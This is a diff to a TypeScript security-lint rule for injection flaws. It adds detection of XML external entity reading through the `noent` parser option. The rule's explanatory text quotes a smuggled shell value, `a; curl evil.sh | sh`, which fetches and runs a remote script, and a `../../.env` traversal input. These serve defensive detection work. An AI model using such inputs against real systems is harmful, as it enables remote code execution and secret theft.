@@ -32,6 +32,7 @@ export default defineRule({
   standards: [
     { name: 'CWE-78: OS command injection', url: 'https://cwe.mitre.org/data/definitions/78.html' },
     { name: 'CWE-94: Code injection', url: 'https://cwe.mitre.org/data/definitions/94.html' },
+    { name: 'CWE-611: XML external entities', url: 'https://cwe.mitre.org/data/definitions/611.html' },
     { name: 'CWE-22: Path traversal', url: 'https://cwe.mitre.org/data/definitions/22.html' },
   ],
   options: {},
@@ -44,6 +45,8 @@ export default defineRule({
     module:
       '`{{value}}` comes from the request and decides which module is loaded and run. Choose from a list of modules.',
     path: '`{{value}}` comes from the request and becomes part of a path, so `../` in it leads to any file. Take `path.basename(…)` of it, or check that the resolved path stays below its folder.',
+    entities:
+      '`{{value}}` comes from the request, and with `noent` its XML names files that are read into it. Leave `noent` out.',
   },
   docs: {
     why: `A shell, an evaluator and the file system all do as they are told. A file name such as \`a; curl evil.sh | sh\` runs whatever follows the semicolon; \`../../.env\` hands out the secrets of the server; a template that a client writes can call any function of Node. One such place gives away the machine, not just a row of data.`,
@@ -75,7 +78,7 @@ export default defineRule({
 });
 
 interface Risk {
-  readonly kind: 'command' | 'program' | 'code' | 'module' | 'path';
+  readonly kind: 'command' | 'program' | 'code' | 'module' | 'path' | 'entities';
   readonly given: Value | undefined;
   readonly passing?: Passing;
   readonly sink?: SinkCall;
@@ -101,6 +104,8 @@ function risksOf(call: ResolvedCall, facts: TypeScriptFacts, model: ProjectModel
       return [{ kind: 'module', given, passing: joinsPaths }];
     case 'path':
       return [{ kind: 'path', given, passing: joinsPaths }];
+    case 'document':
+      return readsEntities(sink) ? [{ kind: 'entities', given }] : [];
     case 'markup':
     case 'address':
     case 'redirect':
@@ -126,6 +131,16 @@ function runsShell({ call }: SinkCall, facts: TypeScriptFacts): boolean {
   const [flag] = list?.kind === 'array' ? list.elements : [];
   if (isShell) return flag?.kind === 'literal' && /^(?:-c|\/c)$/i.test(String(flag.value));
   return facts.calls[call.index] === call.fact && call.fact.arguments.some(opensShell);
+}
+
+/** `{ noent: true }` puts in whatever file an entity of the document names. */
+function readsEntities({ call, sink }: SinkCall): boolean {
+  const options = sink.options === undefined ? undefined : call.fact.arguments[sink.options];
+  const asked =
+    options === undefined
+      ? undefined
+      : (propertyOf(options, 'noent') ?? propertyOf(options, 'replaceEntities'));
+  return asked?.kind === 'literal' && asked.value === true;
 }
 
 function opensShell(value: Value): boolean {
